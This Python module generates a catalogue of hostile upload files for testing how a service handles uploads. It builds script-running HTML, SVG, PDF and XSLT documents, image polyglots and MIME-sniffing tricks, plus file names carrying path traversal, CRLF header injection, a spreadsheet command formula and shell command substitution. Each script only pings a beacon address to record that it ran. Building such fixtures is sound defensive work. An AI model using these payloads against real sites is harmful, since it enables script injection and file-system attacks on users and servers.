"""More than forty files that run a script where a browser takes them for a page, and names that would break a header or a folder.

Each script asks for `beacon` with the number of its file, so that whoever opens them counts what ran. Nothing here is sent anywhere by
itself. Source: threats T17, T19; the WHATWG MIME sniffing standard; OWASP "Unrestricted File Upload".
"""
import base64
import gzip
import io
import zipfile
from typing import NamedTuple


class HostileFile(NamedTuple):
    """Name and media type as an uploader would claim them, and the bytes."""

    name: str
    media_type: str
    data: bytes


def hostile_files(beacon: str) -> list[HostileFile]:
    """The files; `beacon` is an absolute address, asked for as `<beacon>?<number>` by every script that runs."""
    made = [*_pages(beacon), *_pictures(beacon), *_documents(beacon), *_polyglots(beacon), *_sniffed(beacon), *_named(beacon)]
    return [HostileFile(each.name, each.media_type, each.data.replace(b"NUMBER", str(n).encode())) for n, each in enumerate(made)]


def _script(beacon: str) -> str:
    return f"fetch('{beacon}?NUMBER',{{mode:'no-cors'}});document.title='ran'"


def _page(beacon: str) -> str:
    return f"<!doctype html><html><body><script>{_script(beacon)}</script></body></html>"


def _file(name: str, media_type: str, text: str | bytes) -> HostileFile:
    return HostileFile(name, media_type, text.encode() if isinstance(text, str) else text)


def _pages(beacon: str) -> list[HostileFile]:
    script, page = _script(beacon), _page(beacon)
    xhtml = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>{script}</script></body></html>'
    return [
        _file("page.html", "text/html", page),
        _file("page.htm", "text/html", page),
        _file("PAGE.HTML", "TEXT/HTML", page),
        _file("page.shtml", "text/html", page),
        _file("page.xhtml", "application/xhtml+xml", xhtml),
        _file("page.xht", "application/xhtml+xml", xhtml),
        _file("page.xml", "text/xml", xhtml),
        _file("onload.html", "text/html", f'<body onload="{script}">'),
        _file("onerror.html", "text/html", f'<img src="x:" onerror="{script}">'),
        _file("details.html", "text/html", f'<details open ontoggle="{script}">x</details>'),
        _file("srcdoc.html", "text/html", f"<iframe srcdoc=\"<script>parent.{script}</script>\"></iframe>"),
        _file("data-frame.html", "text/html", f'<iframe src="data:text/html;base64,{base64.b64encode(page.encode()).decode()}"></iframe>'),
        _file("refresh.html", "text/html", f'<meta http-equiv="refresh" content="0;url=javascript:{script}">'),
        _file("base.html", "text/html", f'<base href="{beacon}"><script src="?NUMBER"></script>'),
        _file("module.html", "text/html", f'<script type="module">{script}</script>'),
        _file("worker.html", "text/html", f"<script>new Worker(URL.createObjectURL(new Blob([\"{script}\"])))</script>"),
        _file("form.html", "text/html", f'<form id="f" action="{beacon}?NUMBER" method="post"></form><script>f.submit()</script>'),
        _file("page.hta", "application/hta", page),
        _file("page.htc", "text/x-component", f'<public:attach event="onload"/><script>{script}</script>'),
    ]


def _pictures(beacon: str) -> list[HostileFile]:
    script = _script(beacon)
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    packed = gzip.compress(f"{head}><script>{script}</script></svg>".encode(), mtime=0)
    foreign = f'<body xmlns="http://www.w3.org/1999/xhtml"><script>{script}</script></body>'
    return [
        _file("picture.svg", "image/svg+xml", f"{head}><script>{script}</script></svg>"),
        _file("onload.svg", "image/svg+xml", f'{head} onload="{script}"/>'),
        _file("animated.svg", "image/svg+xml", f'{head}><animate attributeName="x" dur="1s" onbegin="{script}"/></svg>'),
        _file("foreign.svg", "image/svg+xml", f"{head}><foreignObject width='9' height='9'>{foreign}</foreignObject></svg>"),
        _file("linked.svg", "image/svg+xml", f'{head}><script xlink:href="{beacon}?NUMBER"/></svg>'),
        _file("entity.svg", "image/svg+xml", f'<!DOCTYPE svg [<!ENTITY s "<script>{script}</script>">]>{head}>&s;</svg>'),
        _file("picture.svgz", "image/svg+xml", packed),
        _file("picture.png", "image/png", f"{head}><script>{script}</script></svg>"),
    ]


def _documents(beacon: str) -> list[HostileFile]:
    script, page = _script(beacon), _page(beacon)
    sheet = f"""<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><html><body><script>{script}</script></body></html></xsl:template></xsl:stylesheet>"""
    inline = base64.b64encode(sheet.encode()).decode()
    styled = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl;base64,{inline}"?><a/>'
    inner = sheet.partition("?>")[2].replace("<xsl:stylesheet", '<xsl:stylesheet id="s"')
    declared = "<!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>"
    itself = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>{declared}<a>{inner}</a>'
    parts = f"--b\r\nContent-Type: text/html\r\n\r\n{page}\r\n--b--\r\n"
    mhtml = f"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n{parts}"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as jar:
        jar.writestr(zipfile.ZipInfo("index.html"), page)
    return [
        _file("styled.xml", "text/xml", styled), _file("itself.xml", "application/xml", itself), _file("sheet.xsl", "text/xsl", sheet),
        _file("page.mhtml", "message/rfc822", mhtml), _file("page.mht", "multipart/related", mhtml),
        _file("letter.eml", "message/rfc822", mhtml),
        _file("paper.pdf", "application/pdf", _pdf(f"app.launchURL('{beacon}?NUMBER')", b"/OpenAction << /S /JavaScript /JS (SCRIPT) >>")),
        _file("link.pdf", "application/pdf", _pdf(f"{beacon}?NUMBER", b"/OpenAction << /S /URI /URI (SCRIPT) >>")),
        _file("archive.jar", "application/java-archive", archive.getvalue()),
        _file("feed.rss", "application/rss+xml", f"<rss><channel><title>&lt;script&gt;{script}&lt;/script&gt;</title></channel></rss>"),
        _file("lib.js", "text/javascript", script), _file("style.css", "text/css", f"@import '{beacon}?NUMBER';"),
        _file("movie.swf", "application/x-shockwave-flash", b"FWS\x09" + page.encode()),
        _file("manifest.appcache", "text/cache-manifest", f"CACHE MANIFEST\n{beacon}?NUMBER\n"),
        _file("link.url", "application/internet-shortcut", f"[InternetShortcut]\r\nURL=javascript:{script}\r\n"),
    ]


def _pdf(script: str, action: bytes) -> bytes:
    """A page of PDF whose catalogue has this action; readers rebuild the missing table of offsets."""
    catalogue = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + action.replace(b"SCRIPT", script.encode()) + b" >>\nendobj\n"
    return b"%PDF-1.7\n" + catalogue + (
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def _polyglots(beacon: str) -> list[HostileFile]:
    """Files of two kinds at once: what looks at the beginning, or at the end, sees something harmless."""
    script, page = _script(beacon).encode(), _page(beacon).encode()
    return [
        _file("both.gif", "image/gif", b"GIF89a/*" + page + b"*/=1;" + script),
        _file("both.jpg", "image/jpeg", b"\xff\xd8\xff\xfe" + len(page).to_bytes(2, "big") + page + b"\xff\xd9"),
        _file("both.png", "image/png", b"\x89PNG\r\n\x1a\n" + page),
        _file("both.bmp", "image/bmp", b"BM" + page),
        _file("both.wav", "audio/wav", b"RIFF\xff\xff\xff\xffWAVE" + page),
        _file("both.pdf", "application/pdf", page + _pdf("", b"")),
        _file("both.zip", "application/zip", page + b"PK\x05\x06" + bytes(18)),
        _file("both.mp3", "audio/mpeg", b"ID3\x03" + page),
    ]


def _sniffed(beacon: str) -> list[HostileFile]:
    """Bytes that a browser which looks inside takes for a page, whatever they were called."""
    page = _page(beacon)
    return [
        _file("nuls.htm", "text/html", b"\0" * 64 + page.encode()),
        _file("between.htm", "text/html", "\0".join(page).encode()),
        _file("plain.txt", "text/plain", page), _file("no-type", "", page), _file("wrong-type.html", "text", page),
        _file("unknown.bin", "application/octet-stream", page), _file("late.txt", "text/plain", " " * 600 + page),
        _file("utf-16.html", "text/html; charset=utf-16", page.encode("utf-16")),
        _file("utf-7.html", "text/html; charset=utf-7", page.encode("utf-7")),
        _file("iso-2022.html", "text/html; charset=iso-2022-jp", page.encode("iso-2022-jp")),
        _file("mark.html", "text/html", b"\xef\xbb\xbf" + page.encode()),
        _file("data.json", "application/json", page), _file("table.csv", "text/csv", page),
    ]


def _named(beacon: str) -> list[HostileFile]:
    """The danger is in the name: headers broken by quotes and semicolons, suffixes hidden by direction marks, ways out of a folder."""
    names = (
        "合同\u202egpj.html", 'a"; filename="b.html', "a';b.html", "a\\b.html", "../../../etc/passwd.html", "..\\..\\page.html", "CON.html",
        "page.html.", "page.html ", " .html", "\u200bpage.html", "a;b=c.html", "a%0d%0aSet-Cookie: x=y.html", "%2e%2e%2fpage.html",
        "page.html\u2028.txt", "\ufeffpage.html", "e\u0301" * 40 + ".html", "证据" * 60 + ".html", "=cmd|' /C calc'!A0.html", "$(id).html",
    )
    return [_file(name, "text/html", _page(beacon)) for name in names]
